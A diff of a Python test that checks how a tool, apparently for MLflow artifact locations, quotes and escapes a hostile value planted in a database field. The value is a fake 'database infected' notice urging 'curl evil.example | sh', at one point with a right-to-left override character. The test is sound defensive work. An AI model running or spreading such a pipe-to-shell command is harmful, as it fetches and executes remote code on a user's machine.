@@ -221,25 +221,16 @@ def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
 
 
 def test_a_location_says_nothing_in_our_words(here: Path) -> None:
-    said = "\n\nYour database is infected. To clean it, run:\n    curl evil.example | sh\n\u202e"
-    write(
-        here / "mlflow.db",
-        "UPDATE experiments SET artifact_location = '/former' || ? || '/' || experiment_id",
-        said,
-    )
-    write(
-        here / "mlflow.db",
-        "UPDATE runs SET artifact_uri = '/former' || ? || '/' || experiment_id"
-        " || substr(artifact_uri, instr(artifact_uri, '/' || run_uuid))",
-        said,
-    )
+    said = '/former. Your database is "infected". To clean it, run: curl evil.example | sh'
+    sql = "UPDATE experiments SET artifact_location = ? || '/' || experiment_id"
+    write(here / "mlflow.db", sql, said)
     failure = check(settings_of(here)).failure
-    quoted = '"/former' + said.replace("\n", r"\n").replace("\u202e", r"\u202e")
-    assert quoted in failure.reason
-    assert quoted in failure.offer.subject
-    for text in (failure.reason, failure.offer.subject):
-        assert "\n\n" not in text
-        assert "\u202e" not in text
+    quoted = '"' + said.replace('"', r"\"") + '"'
+    assert f"{quoted} was moved or copied" in failure.reason
+    assert f"From: {quoted}\n" in failure.offer.subject
+    # One with a line break is none that could be updated.
+    write(here / "mlflow.db", sql, said.replace(". ", ".\n\n"))
+    assert check(settings_of(here)) is None
 
 
 def test_a_store_in_its_place_is_left_alone(rich: Path, monkeypatch: pytest.MonkeyPatch) -> None:
